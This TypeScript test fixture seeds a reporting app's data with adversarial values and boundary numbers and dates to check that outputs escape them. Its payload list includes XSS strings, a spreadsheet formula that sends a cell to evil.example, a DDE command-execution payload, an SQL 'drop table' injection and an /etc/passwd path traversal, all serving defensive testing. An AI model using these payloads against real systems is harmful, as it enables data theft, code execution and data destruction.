import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { openSvodka, type OpenSvodka } from '../../src/app/index.ts'
import type { Entity } from '../../src/kit/index.ts'
import * as packs from '../../src/packs/index.ts'
import { startTelegramSandbox, type TelegramSandbox } from '../../src/sandbox/telegram/index.ts'
import { QUEUES, ROWS, TODAY } from '../access/rows.ts'
import { randomOf, type Random } from './random.ts'

/* A company whose every text was written by somebody who means harm, and whose every number and time is at an end of what there is. */

export const CHAT = 501
const TOKEN = '7000000001:AAexample_token'

/** What must stand in an output only as a text. */
export const MARKUP = '<script>alert(1)</script>'
export const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'

const TEXTS = [
  MARKUP,
  FORMULA,
  '<img src=x onerror=alert(1)>"\'><!--',
  '+7 (999) 000',
  '-2+3',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  "'; drop table core.support_ticket; --",
  '{n, plural, one {#} other {#}} {title} ${x} {{y}}',
  '*b* _i_ [l](tg://user?id=1) `c` ~s~ ||p|| > # | --- |',
  ']]> &amp; &#0; &lt;b&gt; \\',
  '👩‍👩‍👧‍👦 🏳️‍🌈 Z̴̡̛͚a e\u0301',
  'שלום \u202eright to left\u202c עולם',
  '\ufeffmark\u200b\u2028line\u0085end\u0007bell\u0001',
  'first\nsecond\r\nthird',
  'АННА zqo01',
  'анна ZQO01',
  '\u00a0',
  'Ж'.repeat(10_000),
  '長'.repeat(300),
  '"',
  ',;|',
  '../../etc/passwd',
  'javascript:alert(1)',
] as const

const NUMBERS = [
  0,
  -0,
  -1,
  1,
  0.1 + 0.2,
  1e308,
  -1e308,
  5e-324,
  9_007_199_254_740_991,
  99_999_999_999.99,
  1e15,
  -1e15,
] as const
const INSTANTS = [
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '1969-12-31T23:59:59Z',
  '2100-02-28T00:00:00Z',
  '2023-12-31T20:59:59.999999Z',
  `${TODAY}T00:00:00Z`,
] as const
const DAYS = ['0001-01-01', '9999-12-31', '1970-01-01', '2024-02-29', TODAY] as const

type Row = Readonly<Record<string, unknown>>

const JOURNEY: Readonly<Record<string, readonly Row[]>> = {
  'journey.event': ['открыл', 'выбрал', 'заказал', 'оплатил'].flatMap((event, step) =>
    Array.from({ length: 12 - step * 2 }, (_, user) => ({
      user_id: `u${user}`,
      event,
      happened_at: `2023-12-${10 + user}T0${step}:00:00Z`,
    })),
  ),
  'journey.payment': Array.from({ length: 6 }, (_, user) => ({
    payment_id: `p${user}`,
    user_id: `u${user}`,
    paid_at: `2023-12-${10 + user}T05:00:00Z`,
    amount: 100 + user,
  })),
}

const ENTITIES: readonly Entity[] = Object.values(packs).flatMap((pack) => pack().definition.entities)

/** The rows as they were, and beside each one that says something else, under a key of its own or another's. */
function hostileRows(entity: Entity, rows: readonly Row[], random: Random): Row[] {
  return rows.flatMap((row, at) => {
    const own = random.of(at)
    const names = Object.keys(entity.columns).filter((name) => !entity.key.includes(name))
    const changed = names.flatMap((name) => (own.chance(0.4) ? [[name, hostileValue(entity, name, own)]] : []))
    const [keyed = ''] = entity.key
    const isText = entity.columns[keyed]?.type === 'string'
    const key =
      isText && own.chance(0.6)
        ? { [keyed]: own.chance(0.3) ? own.pick(TEXTS) : `${String(row[keyed])}`.toUpperCase() }
        : {}
    return [row, { ...row, ...Object.fromEntries(changed), ...key }]
  })
}

function hostileValue({ columns }: Entity, name: string, random: Random): unknown {
  if (random.chance(0.15)) return null
  switch (columns[name]?.type) {
    case 'instant':
      return random.pick(INSTANTS)
    case 'day':
      return random.pick(DAYS)
    case 'boolean':
      return random.chance(0.5)
    case 'integer':
    case 'decimal':
    case 'double':
      return random.pick(NUMBERS)
    default:
      return random.pick(TEXTS)
  }
}

const entry = (name: string): string => new URL(`../../src/${name}/index.ts`, import.meta.url).href

const config = (
  streams: object,
  reports: readonly string[],
): string => `import { defineWorkspace, secret } from '${entry('kit')}'
import { files } from '${entry('sources')}'
import { calls, company, journey, lending, orders, support } from '${entry('packs')}'

export default defineWorkspace({
  name: ${JSON.stringify(MARKUP)}, timeZone: 'Europe/Moscow', locale: 'ru', currency: 'RUB', today: '${TODAY}',
  sources: [files({ id: 'house', streams: ${JSON.stringify(streams)} })],
  packs: [calls({ queues: ${JSON.stringify({ ...QUEUES, 7002: MARKUP })} }), orders(), support({ lines: { line_1: ['Группа zqg00'], line_2: ['Группа zqg01'], development: [${JSON.stringify(MARKUP)}] } }), lending(), journey(), company()],
  recipients: { all: { role: 'manager', telegram: ${CHAT}, folder: { path: 'out', files: ['html', 'xlsx', 'md', 'pdf'] }, reports: ${JSON.stringify(reports)} } },
  delivery: { telegram: { token: secret('TELEGRAM_TOKEN'), apiRoot: process.env['HOSTILE_TELEGRAM'] } },
})
`

export interface HostileCompany {
  folder: string
  svodka: OpenSvodka
  telegram: TelegramSandbox
  /** rows that were taken and those that were rejected, of how many */
  counts: { rows: number; taken: number; rejected: number }
  close(): Promise<void>
}

export async function openHostileCompany(seed: string): Promise<HostileCompany> {
  const folder = mkdtempSync(join(tmpdir(), 'svodka-hostile-'))
  const telegram = await startTelegramSandbox({ token: TOKEN, limits: 'off' }, () => new Date(`${TODAY}T06:00:00Z`))
  telegram.addChat({ id: CHAT, type: 'private', name: 'Все', languageCode: 'ru' })
  const all: Readonly<Record<string, readonly Row[]>> = { ...ROWS, ...JOURNEY }
  let rows = 0
  for (const entity of ENTITIES) {
    const given = hostileRows(entity, all[entity.id] ?? [], randomOf(`${seed}/${entity.id}`))
    rows += given.length
    writeFileSync(join(folder, `${entity.id}.ndjson`), given.map((row) => `${JSON.stringify(row)}\n`).join(''))
  }
  const streams = Object.fromEntries(
    ENTITIES.filter(({ id }) => all[id]).map(({ id, columns }) => [
      id,
      { path: `${id}.ndjson`, columns: Object.fromEntries(Object.keys(columns).map((name) => [name, name])) },
    ]),
  )
  const reports = Object.values(packs).flatMap((pack) => pack().definition.reports.map(({ id }) => id))
  writeFileSync(join(folder, 'svodka.config.ts'), config(streams, reports))
  const environment = { TELEGRAM_TOKEN: TOKEN, SVODKA_LOG_LEVEL: 'warn' }
  process.env['HOSTILE_TELEGRAM'] = telegram.url
  const svodka = await openSvodka(folder, environment, () => new Date(`${TODAY}T06:00:00Z`))
  const result = await svodka.sync({ mode: 'new', locale: 'ru' }, () => {})
  const errors = result.streams.flatMap(({ error, stream }) => (error === null ? [] : [`${stream}: ${error}`]))
  if (errors.length > 0) throw new Error(errors.join('\n'))
  const sum = (name: 'added' | 'changed' | 'unchanged' | 'rejected') =>
    result.streams.reduce((all_, each) => all_ + each[name], 0)
  return {
    folder,
    svodka,
    telegram,
    counts: { rows, taken: sum('added') + sum('changed') + sum('unchanged'), rejected: sum('rejected') },
    async close() {
      await svodka.close()
      await telegram.close()
      rmSync(folder, { recursive: true, force: true })
    },
  }
}
